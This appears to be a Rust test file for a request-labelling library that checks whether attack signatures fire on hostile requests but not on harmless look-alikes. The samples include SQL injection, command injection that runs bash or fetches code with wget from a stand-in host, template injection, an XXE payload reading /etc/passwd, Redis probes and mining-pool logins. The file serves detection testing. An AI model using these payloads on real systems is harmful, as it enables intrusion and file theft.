//! Tests requests that are alike: some must have a label, and others that differ only a little must
//! not.
//!
//! In: the id of a signature, requests to which it applies, and similar requests. Out: the requests
//! that are judged wrongly.

use forever200_identify::Labeller;

/// The id of a signature, requests to which it applies, and requests to which it does not.
type Case = (
    &'static str,
    &'static [&'static [u8]],
    &'static [&'static [u8]],
);

const CASES: &[Case] = &[
    (
    "redis-info",
    &[
        b"INFO\r\n",
        b"info server\r\n",
        b"*1\r\n$4\r\nPING\r\n",
        b"*2\r\n$4\r\nAUTH\r\n$8\r\nfoobared\r\n",
        b"AUTH foobared\r\n",
        b"KEYS *\r\n",
    ],
    &[
        b"hello world\r\n",
        b"echo hi there\r\n",
        b"scan me please\r\n",
        b"auth joe secret\r\n",
        b"INFO {\"server_id\":\"x\"}\r\n",
        b"PING\r\n",
        b"keys of the house\r\n",
        b"command line tools\r\n",
    ],
    ),
    (
        "mining-pool-login",
        &[
            b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n",
            b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"4x\",\"pass\":\"x\",\"agent\":\"XMRig/6\"}}\n",
            b"POST / HTTP/1.1\r\nHost: x\r\n\r\n{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"4x\",\"pass\":\"x\"}}",
            b"POST / HTTP/1.1\r\nHost: x\r\n\r\n{\"id\":1,\"method\":\"eth_submitLogin\",\"params\":[\"0x1\"]}",
        ],
        &[
            b"POST /cgi-bin/luci/rpc/auth HTTP/1.1\r\nHost: x\r\n\r\n{\"id\":1,\"method\":\"login\",\"params\":[\"root\",\"admin\"]}",
            b"POST /rpc HTTP/1.1\r\nHost: x\r\n\r\n{\"id\":1,\"method\":\"login\",\"params\":{\"user\":\"a\",\"pass\":\"b\"}}",
            b"POST /rpc HTTP/1.1\r\nHost: x\r\n\r\n{\"id\":1,\"method\":\"keepalived\"}",
            b"{\"id\":1,\"method\":\"login\",\"params\":[\"root\",\"admin\"]}\n",
        ],
    ),
    (
        "sql-injection",
        &[
            b"GET /item.php?id=1'--%20x HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /item.php?id=1'%20--+- HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /item.php?where=1%3D1 HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /arcgis/rest/services/R/MapServer/0/query?where=1%3D1%20union%20select%201,2 HTTP/1.1\r\nHost: x\r\n\r\n",
        ],
        &[
            b"GET /arcgis/rest/services/R/MapServer/0/query?where=1%3D1&outFields=*&f=json HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /arcgis/rest/services/R/FeatureServer/2/query?where=1+%3D+1&f=json HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /item?p=5%27%20--%206%27 HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /item?p=boys%27%20%231 HTTP/1.1\r\nHost: x\r\n\r\n",
        ],
    ),
    (
        "command-injection",
        &[
            b"GET /item?p=%7Cbash%20-c%20id HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /item?p=1;bash HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /item?p=1%20;%20wget%20http://x/a HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /item?p=x;%20sleep%205 HTTP/1.1\r\nHost: x\r\n\r\n",
        ],
        &[
            b"GET /item?p=python;docker;bash HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /item?p=AT%26T;%20more%205 HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /item?p=Curly%20hair%20%7C%20Curl%20Kit HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /item?p=Q%26A%20%7C%20Bash HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /matomo.php?action_name=Volumes%20%7C%20Docker%20Docs&idsite=1&rec=1 HTTP/1.1\r\nHost: x\r\n\r\n",
        ],
    ),
    (
        "template-injection",
        &[
            b"GET /item?p=%7B%7B7*7%7D%7D HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /item?p=%7B%7B191-7*7%7D%7D HTTP/1.1\r\nHost: x\r\n\r\n",
        ],
        &[
            b"GET /item?p=%5B%5B2024-01-01%5D%5D HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /item?p=page%20%7B%7B1-2%7D%7D HTTP/1.1\r\nHost: x\r\n\r\n",
        ],
    ),
    (
        "xml-external-entity",
        &[
            b"POST / HTTP/1.1\r\nHost: x\r\n\r\n<!DOCTYPE r SYSTEM \"file:///etc/passwd\"><r/>",
            b"POST / HTTP/1.1\r\nHost: x\r\n\r\n<!DOCTYPE r SYSTEM \"http://x.example/a\"><r/>",
        ],
        &[
            b"POST / HTTP/1.1\r\nHost: x\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE cXML SYSTEM \"http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd\"><cXML/>",
            b"POST / HTTP/1.1\r\nHost: x\r\n\r\n<!DOCTYPE plist SYSTEM \"file://localhost/System/Library/DTDs/PropertyList.dtd\"><plist/>",
        ],
    ),
];

#[test]
fn a_label_is_given_to_its_kind_and_not_to_what_looks_like_it() {
    let labeller = Labeller::built_in();
    let has = |id: &str, raw: &[u8]| {
        let labels = labeller.describe(raw, None).labels;
        labels.iter().any(|label| label.signature.id == id)
    };
    let mut wrong = Vec::new();
    for (id, attacks, others) in CASES {
        let missed = attacks.iter().filter(|raw| !has(id, raw));
        wrong.extend(missed.map(|raw| format!("{id}: missed {}", raw.escape_ascii())));
        let alarmed = others.iter().filter(|raw| has(id, raw));
        wrong.extend(alarmed.map(|raw| format!("{id}: alarmed by {}", raw.escape_ascii())));
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}
